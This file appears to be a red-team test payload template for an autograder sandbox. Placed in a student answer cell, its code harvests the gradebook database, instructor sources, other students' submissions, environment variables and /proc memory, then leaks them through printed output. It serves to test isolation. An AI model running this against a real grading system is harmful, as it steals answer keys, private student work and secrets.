# Family 4: read hidden material (gradebook.db, source/, autograder/, other students'
# submissions, environment variables, the parent's /proc files and memory, the grader's
# modules) and smuggle it out through printed output; SECRET holds the loot. The shared part:
# tests/redteam/<assignment>/read_hidden.py put it into their answer cell ({ATTACK}) and
# smuggle SECRET out through that assignment's exception messages and returned values.
# {COURSE} is replaced by the course root: the attacker knows where the course lives.
# %% answer: {CELL}
import gc
import glob
import os
import sys

_COURSE = "{COURSE}"
_loot = []


def _grab(path, n=20000):
    try:
        with open(path, "rb") as handle:
            _loot.append(handle.read(n).decode("latin-1"))
    except Exception as exc:
        _loot.append(f"{path}: {type(exc).__name__}")


for _pattern in ["source/*/*.ipynb", "gradebook.db", "autograder/*", "autograder/checks/*.py", "autograder/assignments/*/*",
                 "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "feedback/*/*/*.html", "nbgrader_config.py"]:
    for _path in glob.glob(os.path.join(_COURSE, _pattern)):
        if os.path.isfile(_path):
            _grab(_path)
for _up in range(1, 7):
    for _name in ["gradebook.db", "source", "autograder", "submitted"]:
        _path = os.path.join(*([".."] * _up), _name)
        if os.path.isdir(_path):
            for _root, _dirs, _files in os.walk(_path):
                for _f in _files[:50]:
                    _grab(os.path.join(_root, _f))
        elif os.path.isfile(_path):
            _grab(_path)
_loot.append(repr(dict(os.environ)))
for _pid in {"self", str(os.getppid()), "1"}:
    for _what in ["environ", "cmdline"]:
        _grab(f"/proc/{_pid}/{_what}")
    try:
        _loot.append(repr(os.listdir(f"/proc/{_pid}/cwd")))
        _loot.append(repr(os.listdir(f"/proc/{_pid}/root")))
    except Exception as exc:
        _loot.append(type(exc).__name__)
    try:  # the parent's memory
        with open(f"/proc/{_pid}/maps") as _maps, open(f"/proc/{_pid}/mem", "rb") as _mem:
            for _line in list(_maps)[:400]:
                _lo, _hi = (int(x, 16) for x in _line.split()[0].split("-"))
                if "rw" in _line.split()[1] and _hi - _lo < 64 << 20:
                    try:
                        _mem.seek(_lo)
                        _chunk = _mem.read(_hi - _lo)
                        _at = _chunk.find(b"CANARY")
                        if _at >= 0:
                            _loot.append(_chunk[_at : _at + 200].decode("latin-1"))
                    except Exception:
                        pass
    except Exception as exc:
        _loot.append(type(exc).__name__)
for _obj in gc.get_objects():  # anything the grader left in this process's memory
    if isinstance(_obj, dict):
        for _v in list(_obj.values())[:50]:
            if isinstance(_v, str) and ("CANARY" in _v or "ref_" in _v):
                _loot.append(_v[:500])
for _modname in ["autograder.assignments.ps1_schedulers.checks", "autograder.checks", "source"]:
    try:
        import inspect

        _loot.append(inspect.getsource(__import__(_modname, fromlist=["x"])))
    except Exception as exc:
        _loot.append(type(exc).__name__)
try:
    import sqlite3

    _con = sqlite3.connect(os.path.join(_COURSE, "gradebook.db"))
    _loot.append(repr(_con.execute("select source from source_cell").fetchall()))
except Exception as exc:
    _loot.append(type(exc).__name__)

_all = "\n".join(_loot)
_at = _all.find("CANARY")
SECRET = _all[max(0, _at - 20) : _at + 280] if _at >= 0 else _all[:300]
print(_all[:200000])
print(SECRET, file=sys.stderr)
